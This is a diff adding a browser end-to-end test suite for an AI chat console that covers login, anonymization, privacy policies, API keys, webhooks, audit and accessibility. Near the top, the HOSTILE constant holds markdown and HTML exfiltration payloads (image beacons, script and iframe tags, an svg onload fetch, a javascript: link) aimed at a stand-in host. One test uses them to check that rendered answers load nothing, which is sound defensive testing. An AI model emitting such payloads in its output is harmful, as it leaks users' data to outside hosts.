@@ -1,0 +1,346 @@
+import { createServer, type Server } from 'node:http';
+import { readFile } from 'node:fs/promises';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { eventually, startSpeechServer, type SpeechServer } from '@app/testing';
+import { ALL_RULES, inBrowser, launchBrowser, LOOK_RULES, Visitor } from '../support/browser';
+import { StartScene } from '../support/start';
+
+const SCREENS = [
+  'chat',
+  'anonymize',
+  'transcribe',
+  'keys',
+  'people',
+  'groups',
+  'privacy',
+  'usage',
+  'jobs',
+  'audit',
+  'status',
+  'account',
+];
+/** A folder that keeps a picture of each screen. */
+const PICTURES = process.env.CONSOLE_PICTURES;
+const FIRST_SCREEN_BYTES = 250 * 1024;
+const ELSEWHERE = 'https://elsewhere.example';
+
+/** What a model may be made to write, so that whoever reads it carries data out. */
+const HOSTILE = [
+  `![picture](${ELSEWHERE}/a?q=NAME)`,
+  `<img src="${ELSEWHERE}/b"><script src="${ELSEWHERE}/c"></script><iframe src="${ELSEWHERE}/d"></iframe>`,
+  `<style>@import url(${ELSEWHERE}/e)</style><svg onload="fetch('${ELSEWHERE}/f')">`,
+  `[harmless](javascript:fetch('${ELSEWHERE}/g')) [shown](${ELSEWHERE}/h)`,
+  `[ref]: ${ELSEWHERE}/i\n\n![x][ref]`,
+].join('\n\n');
+
+/** Run in the page. */
+const linksOf = (links: unknown): { href: string; rel: string }[] =>
+  (links as { href: string; rel: string }[]).map(({ href, rel }) => ({ href, rel }));
+
+inBrowser('the console, as npm start serves it', () => {
+  let scene: StartScene;
+  let speech: SpeechServer;
+  let browser: Browser;
+  let visitor: Visitor;
+  let page: Page;
+  let login: { userName: string; password: string };
+  let receiver: Server;
+  let answer = 500;
+  let received = 0;
+  let origin: string;
+
+  beforeAll(async () => {
+    [scene, speech, browser] = await Promise.all([StartScene.make(), startSpeechServer(), launchBrowser()]);
+    receiver = createServer((_request, response) => {
+      received++;
+      response.writeHead(answer).end();
+    });
+    await new Promise<void>((listening) => receiver.listen(0, '127.0.0.1', listening));
+    origin = `http://localhost:${scene.port}`;
+    await scene
+      .start({ RATE_LIMITS: 'off', TRANSCRIPTION_BASE_URL: speech.baseUrl, NODE_OPTIONS: '' })
+      .ready(scene.port);
+    login = JSON.parse(await readFile(join(scene.dataDir, 'demo-credentials.json'), 'utf8')) as typeof login;
+    visitor = await Visitor.at(browser, origin);
+    page = visitor.page;
+  });
+  afterAll(async () => {
+    await browser?.close();
+    receiver?.close();
+    await speech?.stop();
+    await scene?.stop();
+  });
+  afterEach(() => {
+    // No request leaves the origin, no policy is broken, nothing is thrown: whatever a test did.
+    expect(visitor.wrong).toEqual([]);
+  });
+
+  const textOf = async (selector: string): Promise<string> =>
+    (await page.locator(selector).allTextContents()).join('\n');
+
+  const send = async (prompt: string): Promise<void> => {
+    const turns = await page.locator('article.turn').count();
+    await page.locator('.composer textarea').fill(prompt);
+    await page.locator('.composer button[type=submit]').click();
+    await page.locator('article.turn:not([aria-busy])').nth(turns).locator('.answer').waitFor();
+  };
+
+  it('lets the demo user in, and shows in a first chat what was hidden and what came back', async () => {
+    await visitor.open('/');
+    await visitor.logIn(login);
+    expect(new URL(page.url()).pathname).toBe('/chat');
+    const bytes = [...visitor.transferred.values()].reduce((sum, size) => sum + size, 0);
+    expect(bytes).toBeLessThan(FIRST_SCREEN_BYTES);
+    const preview = page.locator('.findings .chip-text', { hasText: 'Hans Müller' });
+    await page.locator('.composer textarea').fill('Write to Hans Müller about Berlin.');
+    await preview.waitFor();
+    await send('Write to Hans Müller, phone +49 30 901820.');
+    expect(await textOf('.answer')).toContain('Write to Hans Müller, phone +49 30 901820.');
+    await page.getByRole('switch').click();
+    await page.locator('.sent').waitFor();
+    expect(await textOf('.sent')).not.toMatch(/Müller|901820/);
+    const mark = page.locator('.sent mark').first();
+    await mark.focus();
+    expect(await textOf('.mark-note')).toContain('Hans Müller');
+    await page.keyboard.press('Escape');
+    expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/);
+  });
+
+  it('opens a conversation by its address again, renames it, finds it, and deletes it after asking', async () => {
+    await page.reload();
+    await page.locator('.answer', { hasText: 'Hans Müller' }).waitFor();
+    const menu = page.getByRole('button', { name: /^Actions on Write to/ });
+    await menu.click();
+    await page.getByRole('menuitem', { name: 'Rename' }).click();
+    await page.getByRole('dialog').getByLabel('Name').fill('Letter to a customer');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await page.getByRole('link', { name: 'Letter to a customer' }).waitFor();
+    await page.getByRole('searchbox').fill('nowhere');
+    await page.getByText('Nothing found.').waitFor();
+    await page.getByRole('searchbox').fill('customer');
+    await page.getByRole('button', { name: 'Actions on Letter to a customer' }).click();
+    await page.getByRole('menuitem', { name: 'Delete' }).click();
+    expect(await textOf('dialog p')).toContain('Letter to a customer');
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
+    await page.getByText('Nothing found.').waitFor();
+    expect(new URL(page.url()).pathname).toBe('/chat');
+    await page.getByRole('searchbox').fill('');
+  });
+
+  it('leaves a false find as it is, and hides a missed word, for one chat', async () => {
+    const prompt = 'Ask Hans Müller about the wombat.';
+    const input = page.locator('.composer textarea');
+    await input.fill(prompt);
+    await page.getByRole('button', { name: 'Leave “Hans Müller” as it is' }).click();
+    await input.press('End');
+    await input.press('ArrowLeft');
+    for (const _ of 'wombat') await input.press('Shift+ArrowLeft');
+    await page.getByRole('button', { name: 'Hide “wombat”' }).click();
+    await page.locator('.chip-text', { hasText: 'wombat' }).waitFor();
+    await page.locator('.composer button[type=submit]').click();
+    await page.locator('.sent').waitFor();
+    const sent = await textOf('.sent .pre');
+    expect(sent).toContain('Hans Müller');
+    expect(sent).not.toContain('wombat');
+  });
+
+  it('sends a document along, and says so', async () => {
+    await page.getByRole('link', { name: 'New conversation' }).click();
+    const content = Buffer.from('The contract with Petra Sommer ends in June.');
+    await page
+      .locator('.composer input[type=file]')
+      .setInputFiles({ name: 'contract.txt', mimeType: 'text/plain', buffer: content });
+    await page.getByText('attached').waitFor();
+    await send('When does the contract end?');
+    await page.locator('.prompt', { hasText: 'with a document' }).waitFor();
+  });
+
+  it('loads nothing that an answer names, and shows where its links go', async () => {
+    await page.getByRole('link', { name: 'New conversation' }).click();
+    await send(HOSTILE);
+    const answer = page.locator('.answer');
+    expect(await answer.locator('img, script, iframe, style, svg, [src], [style]').count()).toBe(0);
+    const links = await answer.locator('a').evaluateAll(linksOf);
+    expect(links).toEqual([{ href: `${ELSEWHERE}/h`, rel: expect.stringContaining('noopener') as string }]);
+    expect(await answer.textContent()).toContain(`${ELSEWHERE}/h`);
+  });
+
+  it('takes personal data out of a text', async () => {
+    await visitor.open('/anonymize');
+    await page.getByLabel('Text', { exact: true }).fill('Anna Schmidt, anna.schmidt@firma.de');
+    await page.getByRole('button', { name: 'Anonymize' }).click();
+    await page.locator('.marked mark').first().waitFor();
+    expect(await textOf('.marked')).toBe('[NAME_1], [EMAIL_1]');
+  });
+
+  it('a new policy has its effect: what it blocks cannot be sent', async () => {
+    await visitor.open('/privacy');
+    await page.getByLabel('E-mail address, Outside models').selectOption('block');
+    await page.getByText('This text would be refused.').waitFor();
+    await page.getByRole('button', { name: 'Save' }).click();
+    await page.getByText('Version 1').waitFor();
+    await visitor.open('/chat');
+    let tries = 0;
+    await eventually(async () => {
+      // What was asked before is not asked again.
+      await page.locator('.composer textarea').fill(`Write to ann${++tries}@firma.de`);
+      await page.getByText('Your organization does not allow this to be sent').waitFor({ timeout: 2_000 });
+    }, 30_000);
+    expect(await page.locator('.composer button[type=submit]').isDisabled()).toBe(true);
+    await visitor.open('/privacy');
+    await page.getByLabel('E-mail address, Outside models').selectOption('asked');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await page.getByText('Version 2').waitFor();
+  });
+
+  it('makes a key, which opens what it is for until it is revoked', async () => {
+    await visitor.open('/keys');
+    await page.getByRole('button', { name: 'New key' }).click();
+    await page.getByLabel('Name').fill('Reports');
+    await page.getByRole('button', { name: 'Create key' }).click();
+    const key = (await page.getByTestId('made-key').textContent()) ?? '';
+    const models = () => fetch(`${origin}/ai/v1/models`, { headers: { authorization: `Bearer ${key}` } });
+    expect((await models()).status).toBe(200);
+    await page.getByRole('button', { name: 'Done' }).click();
+    await page.getByRole('button', { name: 'Revoke' }).click();
+    expect(await textOf('dialog p')).toContain('Reports');
+    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
+    await page.locator('.badge', { hasText: 'revoked' }).waitFor();
+    expect((await models()).status).toBe(401);
+  });
+
+  it('shows a delivery that failed, and delivers it again', async () => {
+    await submitJob();
+    await visitor.open('/jobs');
+    await page.getByRole('button', { name: 'Details' }).click();
+    const dialog = page.getByRole('dialog');
+    await dialog.getByText('500').waitFor();
+    [answer, received] = [200, 0];
+    await dialog.getByRole('button', { name: 'Deliver again' }).click();
+    await eventually(() => expect(received).toBe(1));
+    await dialog.getByRole('button', { name: 'Close' }).click();
+    await eventually(async () => {
+      await page.getByRole('button', { name: 'Refresh' }).click();
+      await page.getByText('delivered', { exact: true }).waitFor({ timeout: 1_000 });
+    });
+  });
+
+  it('says that the audit trail is whole', async () => {
+    await visitor.open('/audit');
+    await page.getByRole('button', { name: 'Verify' }).click();
+    await page.getByText('The trail is whole').waitFor();
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'CSV', exact: true }).click();
+    expect((await download).suggestedFilename()).toBe('audit.csv');
+  });
+
+  it('has a recording transcribed, and waits for the result itself', async () => {
+    await visitor.open('/transcribe');
+    await page.locator('input[type=file]').setInputFiles('test/fixtures/speech/librivox-0870.wav');
+    await page.getByRole('button', { name: 'Transcribe' }).click();
+    await page.locator('.segments li', { hasText: 'He was not an ill-disposed young man.' }).waitFor();
+  });
+
+  it('comes back to where somebody was when their session ended meanwhile', async () => {
+    await visitor.open('/people');
+    await page.getByText(login.userName).first().waitFor();
+    const other = await visitor.context.newPage();
+    await other.goto(`${origin}/chat`);
+    await other.getByRole('button', { name: login.userName }).click();
+    await other.getByRole('menuitem', { name: 'Log out' }).click();
+    await other.locator('input[type=email]').waitFor();
+    await other.close();
+    await page.getByRole('link', { name: 'Groups' }).click();
+    await page.getByText('Your session is over').waitFor();
+    await visitor.logIn(login);
+    expect(new URL(page.url()).pathname).toBe('/groups');
+    await page.getByRole('heading', { name: 'Groups' }).waitFor();
+  });
+
+  it('lets somebody in with a one-time password, who chooses another, and shows them their own screens alone', async () => {
+    await visitor.open('/people');
+    await page.getByRole('button', { name: 'Add a person' }).click();
+    const dialog = page.getByRole('dialog');
+    await dialog.getByLabel('E-mail address').fill('new@example.com');
+    await dialog.getByRole('button', { name: 'Add a person' }).click();
+    const oneTime = (await dialog.locator('.secret').textContent()) ?? '';
+    const other = await Visitor.at(browser, origin);
+    await other.open('/people');
+    await other.page.getByLabel('E-mail address').fill('new@example.com');
+    await other.page.getByLabel('Password', { exact: true }).fill(oneTime);
+    await other.page.getByRole('button', { name: 'Log in' }).click();
+    await other.page.getByLabel('New password').fill('a password of their own');
+    await other.page.getByRole('button', { name: 'Log in' }).click();
+    await other.page.getByRole('heading', { name: 'No such page' }).waitFor();
+    expect(await other.page.getByRole('link', { name: 'Keys' }).count()).toBe(1);
+    expect(await other.page.getByRole('link', { name: 'People' }).count()).toBe(0);
+    expect(other.wrong).toEqual([]);
+    await other.context.close();
+  });
+
+  it('answers programs as before, and allows browsers scripts and styles of its own alone', async () => {
+    await visitor.open('/nowhere');
+    await page.getByRole('heading', { name: 'No such page' }).waitFor();
+    const program = await fetch(`${origin}/nowhere`);
+    expect([program.status, program.headers.get('content-type')]).toEqual([
+      404,
+      'application/json; charset=utf-8',
+    ]);
+    const policy = (await fetch(origin)).headers.get('content-security-policy');
+    expect(policy).toContain("script-src 'self';style-src 'self'");
+    expect(policy).not.toContain('unsafe');
+  });
+
+  const LOOKS = [
+    { language: 'en', theme: 'light', viewport: { width: 1280, height: 800 }, rules: ALL_RULES },
+    { language: 'de', theme: 'dark', viewport: { width: 360, height: 740 }, rules: LOOK_RULES },
+  ];
+  it.each(LOOKS)(
+    'keeps every screen open to everybody in $language, $theme',
+    async ({ language, theme, viewport, rules }) => {
+      await page.setViewportSize(viewport);
+      await visitor.open('/chat');
+      await visitor.prefer({ language, theme, showSent: true });
+      const barriers: Record<string, string[]> = {};
+      for (const screen of SCREENS) {
+        await visitor.open(`/${screen}`);
+        await page.locator('h1').first().waitFor();
+        await page.waitForLoadState('networkidle');
+        if (PICTURES) await page.screenshot({ path: join(PICTURES, `${screen}-${language}-${theme}.png`) });
+        const wide = await page.evaluate('document.documentElement.scrollWidth > innerWidth');
+        const found = [...(await visitor.barriers(rules)), ...(wide ? ['wider than the screen'] : [])];
+        if (found.length > 0) barriers[screen] = found;
+      }
+      expect(barriers).toEqual({});
+      expect(await page.evaluate('document.documentElement.lang')).toBe(language);
+      const background = await page.evaluate('getComputedStyle(document.body.parentElement).backgroundColor');
+      expect(background).toBe(theme === 'dark' ? 'rgb(19, 21, 23)' : 'rgb(246, 246, 243)');
+    },
+  );
+
+  /** As a program would, by the login of the demo user. */
+  async function submitJob(): Promise<void> {
+    const headers = { 'content-type': 'application/json' };
+    const tokens = await fetch(`${origin}/idm/v1/auth/login`, {
+      method: 'POST',
+      headers,
+      body: JSON.stringify(login),
+    });
+    const { jwtToken } = (await tokens.json()) as { jwtToken: string };
+    const { port } = receiver.address() as AddressInfo;
+    const body = {
+      text: 'Write to ann@example.com',
+      lang: 'en',
+      webhook_url: `http://127.0.0.1:${port}/hook`,
+    };
+    const job = await fetch(`${origin}/ai/v1/job/anonymize`, {
+      method: 'POST',
+      headers: { ...headers, authorization: `Bearer ${jwtToken}` },
+      body: JSON.stringify(body),
+    });
+    expect(job.status).toBe(202);
+    await eventually(() => expect(received).toBeGreaterThan(0));
+  }
+});
